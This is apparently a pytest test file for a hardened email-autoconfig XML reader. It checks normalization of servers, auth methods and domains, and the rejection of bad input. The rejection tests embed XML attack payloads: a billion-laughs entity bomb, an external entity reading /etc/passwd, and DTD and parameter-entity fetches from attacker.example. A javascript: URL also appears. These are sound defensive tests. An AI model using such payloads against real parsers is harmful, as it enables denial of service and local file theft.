"""wizard.configxml: the hardened config-v1.1.xml reader."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wizard.configxml import (
    MAX_SIZE,
    ClientConfig,
    ConfigXMLError,
    normalize_hostname,
    parse_config_xml,
)
from wizard.model import OAuth2, Server

ISPDB = Path(__file__).resolve().parents[2] / "shared" / "data" / "ispdb" / "xml"


def doc(
    provider_body: str, root_extra: str = "", provider_attrs: str = 'id="example.com"'
) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<clientConfig version="1.1"><emailProvider {provider_attrs}>{provider_body}'
        f"</emailProvider>{root_extra}</clientConfig>"
    ).encode()


def server(
    kind: str = "incomingServer",
    type_: str = "imap",
    host: str = "imap.example.com",
    port: str = "993",
    socket: str | None = "SSL",
    auth: tuple[str, ...] = ("password-cleartext",),
    username: str | None = "%EMAILADDRESS%",
    extra: str = "",
) -> str:
    parts = [f'<{kind} type="{type_}">', f"<hostname>{host}</hostname>", f"<port>{port}</port>"]
    if socket is not None:
        parts.append(f"<socketType>{socket}</socketType>")
    if username is not None:
        parts.append(f"<username>{username}</username>")
    parts += [f"<authentication>{a}</authentication>" for a in auth]
    parts += [extra, f"</{kind}>"]
    return "".join(parts)


GOOD = doc(
    "<domain>Example.COM</domain><domain>example.net.</domain><domain>bücher.example</domain>"
    "<domain>not a domain</domain><domain>example.com</domain>"
    '<domain purpose="mx">mx.example-hosting.net</domain>'
    "<displayName>Example Mail</displayName><displayShortName>Example</displayShortName>"
    "<futureElement><nested/>whatever</futureElement>"
    + server(extra="<pop3><leaveMessagesOnServer>true</leaveMessagesOnServer></pop3>")
    + server(host="IMAP.Example.com.", port="143", socket="STARTTLS", auth=("plain", "secure"))
    + server(type_="pop3", host="pop.example.com", port=" 995 ", username="%EMAILLOCALPART%")
    + server(type_="exchange", host="ews.example.com", port="443")
    + server("outgoingServer", "smtp", "smtp.example.com", "465", auth=("OAuth2", "bogus"))
    + server(
        "outgoingServer",
        "smtp",
        "smtp.example.com",
        "587",
        "STARTTLS",
        auth=("weird",),
        username=None,
        extra="<addThisServer>true</addThisServer>",
    )
    + '<documentation url="https://example.com/help"><descr lang="de">Hilfe</descr>'
    '<descr lang="en">Help</descr></documentation>'
    '<documentation url="javascript:alert(1)"><descr>bad</descr></documentation>'
    '<enable visiturl="https://example.com/enable">'
    '<instruction lang="de">Schalten Sie</instruction>'
    "<instruction>Turn on IMAP</instruction></enable>",
    root_extra="<oAuth2><issuer>login.example.com</issuer><scope>mail</scope>"
    "<authURL>https://login.example.com/auth</authURL>"
    "<tokenURL>https://login.example.com/token</tokenURL></oAuth2>"
    "<webMail><loginPage url='https://mail.example.com'/></webMail>",
)


def test_good_file_is_normalized() -> None:
    config = parse_config_xml(GOOD)
    assert config.id == "example.com"
    assert config.display_name == "Example Mail"
    assert config.short_name == "Example"
    assert config.domains == ("example.com", "example.net", "xn--bcher-kva.example")
    assert config.mx_domains == ("mx.example-hosting.net",)
    assert config.incoming == (
        Server("imap", "imap.example.com", 993, "ssl", ("password-cleartext",), "%EMAILADDRESS%"),
        Server(
            "imap",
            "imap.example.com",
            143,
            "starttls",
            ("password-cleartext", "password-encrypted"),
            "%EMAILADDRESS%",
        ),
        Server("pop3", "pop.example.com", 995, "ssl", ("password-cleartext",), "%EMAILLOCALPART%"),
    )
    assert config.outgoing == (
        Server("smtp", "smtp.example.com", 465, "ssl", ("OAuth2",), "%EMAILADDRESS%"),
        # no usable auth -> password-cleartext; no username -> the full address
        Server(
            "smtp", "smtp.example.com", 587, "starttls", ("password-cleartext",), "%EMAILADDRESS%"
        ),
    )
    assert config.documentation == (("https://example.com/help", "Help"),)
    assert config.enable == ("https://example.com/enable", "Turn on IMAP")
    assert config.oauth2 == OAuth2(
        "login.example.com",
        "mail",
        "https://login.example.com/auth",
        "https://login.example.com/token",
    )
    assert not config.domain_dependent


def test_config_is_frozen() -> None:
    config = parse_config_xml(GOOD)
    with pytest.raises(dataclasses.FrozenInstanceError):
        config.id = "x"  # type: ignore[misc]
    assert isinstance(config.domains, tuple) and isinstance(config.incoming, tuple)


@pytest.mark.parametrize(
    ("legacy", "expected"),
    [
        ("password-cleartext", "password-cleartext"),
        ("plain", "password-cleartext"),
        ("password-encrypted", "password-encrypted"),
        ("secure", "password-encrypted"),
        ("OAuth2", "OAuth2"),
        ("oauth2", "OAuth2"),
        ("NTLM", "NTLM"),
        ("GSSAPI", "GSSAPI"),
        ("client-IP-address", "client-IP-address"),
        ("smtp-after-pop", "client-IP-address"),
        ("TLS-client-cert", "TLS-client-cert"),
        ("none", "none"),
        ("kerberos-v5-with-a-twist", "password-cleartext"),  # unknown: dropped, then default
        ("", "password-cleartext"),
    ],
)
def test_authentication_names(legacy: str, expected: str) -> None:
    config = parse_config_xml(doc(server(auth=(legacy,))))
    assert config.incoming[0].auth == (expected,)


def test_auth_keeps_order_without_duplicates() -> None:
    config = parse_config_xml(
        doc(server(auth=("OAuth2", "plain", "password-cleartext", "junk", "secure")))
    )
    assert config.incoming[0].auth == ("OAuth2", "password-cleartext", "password-encrypted")


@pytest.mark.parametrize(
    ("socket", "expected"),
    [("SSL", "ssl"), ("STARTTLS", "starttls"), ("plain", "plain"), ("starttls", "starttls")],
)
def test_socket_types(socket: str, expected: str) -> None:
    assert parse_config_xml(doc(server(socket=socket))).incoming[0].security == expected


@pytest.mark.parametrize(
    "bad",
    [
        {"port": "0"},
        {"port": "65536"},
        {"port": "99999999999999999999"},
        {"port": "-1"},
        {"port": "abc"},
        {"port": "٩٩٣"},  # non-ASCII digits
        {"port": ""},
        {"host": ""},
        {"host": "imap..example.com"},
        {"host": "-imap.example.com"},
        {"host": "imap.example.com/evil"},
        {"host": "imap example.com"},
        {"host": "localhost"},
        {"host": "192.168.0.1"},
        {"host": "a" * 64 + ".example.com"},
        {"host": "%EMAILDOMAIN%.evil"},
        {"host": "x%EMAILDOMAIN%"},
        {"socket": None},
        {"socket": "SSLv2"},
        {"type_": "exchange"},
        {"type_": "smtp"},  # wrong direction
        {"username": "a b"},
        {"username": "x" * 300},
    ],
)
def test_invalid_server_is_skipped(bad: dict[str, str | None]) -> None:
    good = server(host="imap2.example.com")
    config = parse_config_xml(doc(server(**bad) + good))  # type: ignore[arg-type]
    assert [s.host for s in config.incoming] == ["imap2.example.com"]


def test_invalid_outgoing_is_skipped_and_outgoing_may_be_empty() -> None:
    config = parse_config_xml(doc(server() + server("outgoingServer", "smtp", port="0")))
    assert config.outgoing == ()


def test_unclosed_placeholder_is_repaired() -> None:
    config = parse_config_xml(
        doc(
            server(username="%EMAILADDRESS")
            + server(host="imap2.example.com", username="%EMAILLOCALPART%@%EMAILDOMAIN")
            + server(host="imap3.example.com", username="%EMAILLOCALPART%.%EMAILDOMAIN%")
        )
    )
    assert [s.username for s in config.incoming] == [
        "%EMAILADDRESS%",
        "%EMAILLOCALPART%@%EMAILDOMAIN%",
        "%EMAILLOCALPART%.%EMAILDOMAIN%",
    ]


def test_domain_placeholder_in_host_and_for_domain() -> None:
    config = parse_config_xml(
        doc(
            "<domain>hosted.example</domain><displayName>%EMAILDOMAIN% mail</displayName>"
            + server(host="mail.%EMAILDOMAIN%")
            + server("outgoingServer", "smtp", "%EMAILDOMAIN%", "465")
        )
    )
    assert config.domain_dependent
    assert config.incoming[0].host == "mail.%EMAILDOMAIN%"
    filled = config.for_domain("Other.Example")
    assert filled.incoming[0].host == "mail.other.example"
    assert filled.outgoing[0].host == "other.example"
    assert filled.display_name == "other.example mail"
    assert not filled.domain_dependent
    with pytest.raises(ConfigXMLError):
        config.for_domain("not a domain")


def test_enable_at_root_level_and_other_language_only() -> None:
    config = parse_config_xml(
        doc(
            server(),
            root_extra='<enable visiturl="http://mail.example.com/setup">'
            '<instruction lang="pt-BR">Ative o IMAP</instruction></enable>',
        )
    )
    assert config.enable == ("http://mail.example.com/setup", "Ative o IMAP")


def test_display_name_fallbacks_and_misspelled_short_name() -> None:
    config = parse_config_xml(doc("<displayNameShort>Ex</displayNameShort>" + server()))
    assert config.display_name == "example.com"
    assert config.short_name == "Ex"
    config = parse_config_xml(doc("<domain>a.example</domain>" + server(), provider_attrs=""))
    assert config.id == "a.example"


def test_text_is_cleaned() -> None:
    config = parse_config_xml(
        doc(
            "<displayName>  Example\n\t Mail\u2028 </displayName>"
            + server()
            + '<documentation url="https://example.com/a b"><descr>x</descr></documentation>'
        )
    )
    assert config.display_name == "Example Mail"
    assert config.documentation == ()


def test_incomplete_oauth2_is_ignored() -> None:
    config = parse_config_xml(
        doc(
            server(),
            root_extra="<oAuth2><issuer>x</issuer><scope>y</scope>"
            "<authURL>ftp://x/</authURL><tokenURL>https://x/t</tokenURL></oAuth2>",
        )
    )
    assert config.oauth2 is None


# --- documents that must be rejected ------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<clientConfig><emailProvider id="x"><displayName>&lol9;</displayName></emailProvider></clientConfig>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE clientConfig [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<clientConfig><emailProvider id="x"><displayName>&xxe;</displayName>
<incomingServer type="imap"><hostname>imap.example.com</hostname><port>993</port>
<socketType>SSL</socketType></incomingServer></emailProvider></clientConfig>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE clientConfig SYSTEM "http://attacker.example/evil.dtd">
<clientConfig><emailProvider id="x"/></clientConfig>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>
<clientConfig/>
"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
        (b"<clientConfig><emailProvider>", "malformed"),
        (b"<clientConfig></clientconfig>", "malformed"),
        (b"\x00\x01\x02binary", "malformed"),
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"<!DOCTYPE html><html><body>Not found</body></html>", "DTD"),
        (b"<html><head><title>404</title></head><body>Not&nbsp;found</body></html>", "malformed"),
        (b"<html><body><p>Moved</p></body></html>", "not a clientConfig"),
        (
            b'<?xml version="1.0"?><Autodiscover xmlns="http://schemas.microsoft.com/"/>',
            "not a clientConfig",
        ),
        (b'<x:clientConfig xmlns:x="urn:x"/>', "not a clientConfig"),
        (b"<clientConfig/>", "no emailProvider"),
        (doc("<domain>example.com</domain>"), "no valid incoming"),
        (
            doc(server(port="0") + server("outgoingServer", "smtp", "smtp.example.com", "465")),
            "no valid incoming",
        ),
        (b'<?xml version="1.0" encoding="x-no-such-codec"?><clientConfig/>', "malformed"),
    ],
)
def test_rejected(data: bytes, reason: str) -> None:
    with pytest.raises(ConfigXMLError, match=reason):
        parse_config_xml(data)


def test_oversize_input_is_refused_before_parsing() -> None:
    padding = b"<!--" + b"x" * MAX_SIZE + b"-->"
    with pytest.raises(ConfigXMLError, match="too large"):
        parse_config_xml(doc(server()) + padding)
    # just below the limit is fine
    small = doc(server())
    ok = small + b"<!--" + b"x" * (MAX_SIZE - len(small) - 7) + b"-->"
    assert len(ok) <= MAX_SIZE
    assert parse_config_xml(ok).incoming


def test_deep_nesting_does_not_crash() -> None:
    data = b"<clientConfig>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</clientConfig>"
    with pytest.raises(ConfigXMLError, match="no emailProvider"):
        parse_config_xml(data)


def test_too_many_servers_are_capped() -> None:
    many = "".join(server(host=f"imap{i}.example.com") for i in range(500))
    assert len(parse_config_xml(doc(many)).incoming) == 32


def test_bytes_only() -> None:
    with pytest.raises(TypeError):
        parse_config_xml(GOOD.decode())  # type: ignore[arg-type]
    assert parse_config_xml(bytearray(GOOD)).id == "example.com"


def test_config_error_is_a_value_error() -> None:
    assert issubclass(ConfigXMLError, ValueError)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_random_bytes_only_raise_config_error(data: bytes) -> None:
    try:
        result = parse_config_xml(data)
    except ConfigXMLError:
        return
    assert isinstance(result, ClientConfig)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_random_host_names(text: str) -> None:
    host = normalize_hostname(text)
    if host is not None:
        assert host.isascii() and host == host.lower() and ".." not in host
        config = parse_config_xml(doc(server(host=_xml_escape(text))))
        assert config.incoming[0].host == host


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.mark.skipif(not ISPDB.is_dir(), reason="ISPDB snapshot not available")
def test_every_snapshot_file_parses() -> None:
    files = sorted(ISPDB.glob("*.xml"))
    assert len(files) == 163
    for path in files:
        config = parse_config_xml(path.read_bytes())
        assert config.incoming, path.name
        assert config.domains, path.name
        for s in config.incoming + config.outgoing:
            assert "%" not in s.host.replace("%EMAILDOMAIN%", ""), path.name
            assert s.username.count("%") % 2 == 0, path.name


@pytest.mark.skipif(not ISPDB.is_dir(), reason="ISPDB snapshot not available")
def test_office365_placeholder_flaw_is_repaired() -> None:
    # The ews/owa entries with "%EMAILADDRESS" are not IMAP/POP3, so they are skipped;
    # patch one into an IMAP server to see the repair on real data.
    data = (ISPDB / "office365.com.xml").read_bytes()
    assert b"<username>%EMAILADDRESS</username>" in data
    patched = data.replace(
        b'<incomingServer type="ews">',
        b'<incomingServer type="imap">'
        b"<hostname>ews.office365.com</hostname><port>993</port>"
        b"<socketType>SSL</socketType>",
        1,
    )
    config = parse_config_xml(patched)
    ews = [s for s in config.incoming if s.host == "ews.office365.com"]
    assert ews and ews[0].username == "%EMAILADDRESS%"
    assert all(s.username == "%EMAILADDRESS%" for s in config.incoming + config.outgoing)
